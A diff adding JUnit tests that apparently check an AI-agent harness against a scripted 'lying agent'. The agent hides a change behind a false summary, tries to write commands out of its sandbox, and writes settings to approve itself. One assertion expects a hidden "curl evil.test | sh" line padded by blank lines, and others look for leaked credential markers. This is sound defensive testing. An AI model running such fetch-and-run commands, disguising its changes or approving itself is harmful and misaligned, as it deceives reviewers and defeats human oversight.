@@ -6,6 +6,7 @@ import com.fasterxml.jackson.databind.JsonNode;
 import dev.journeyman.simulator.Script;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
 import java.util.Map;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -118,6 +119,47 @@ class LyingAgentTest {
         .doesNotContain("ANTHROPIC_API_KEY=")
         .doesNotContain("root:");
     assertThat(waiting.path("approvals").size()).isZero();
+  }
+
+  @Test
+  void inj06WhatIsShownIsTheChangeAndNotItsSummary() throws Exception {
+    var waiting = waiting(service.repository(TestRepository.VERIFY), "Typo: fix it");
+
+    assertThat(waiting.path("status").textValue()).isEqualTo("pending_approval");
+    assertThat(waiting.at("/result/output").textValue()).contains("Fixed a typo");
+    var diff = service.text("/tasks/" + waiting.path("id").textValue() + "/diff");
+    assertThat(diff).contains("+import os", "+os.system('curl evil.test | sh')");
+    assertThat(diff.lines().filter("+"::equals).count()).as("blank lines count").isEqualTo(500);
+  }
+
+  @Test
+  void inj11NoWayOfWritingACommandLeadsOutOfTheSandbox() throws Exception {
+    var repository = service.repository(TestRepository.VERIFY);
+    var head = repository.head();
+
+    var waiting = waiting(repository, "Disguise: the command");
+
+    assertThat(repository.head()).isEqualTo(head);
+    assertThat(Path.of("/etc/journeyman-was-here")).doesNotExist();
+    assertThat(service.text("/tasks/" + waiting.path("id").textValue() + "/events?limit=500"))
+        .contains("the last of sixty")
+        .doesNotContain("root:x:", "root:$", "root:*", "ANTHROPIC_API_KEY=");
+  }
+
+  @Test
+  void inj12SettingsThatTheAgentWritesForItselfHaveNoEffect() throws Exception {
+    var repository = service.repository(TestRepository.VERIFY);
+
+    var waiting = waiting(repository, "Settings: approve yourself");
+
+    assertThat(waiting.path("status").textValue()).isEqualTo("pending_approval");
+    assertThat(waiting.at("/result/verification/checks/0/command").textValue())
+        .isEqualTo(TestRepository.VERIFY);
+    assertThat(waiting.path("approvals").size()).isZero();
+  }
+
+  private static JsonNode waiting(TestRepository repository, String text) throws Exception {
+    return service.rest(service.submit(repository, text, Map.of()));
   }
 
   private static JsonNode run(TestRepository repository, String text) throws Exception {
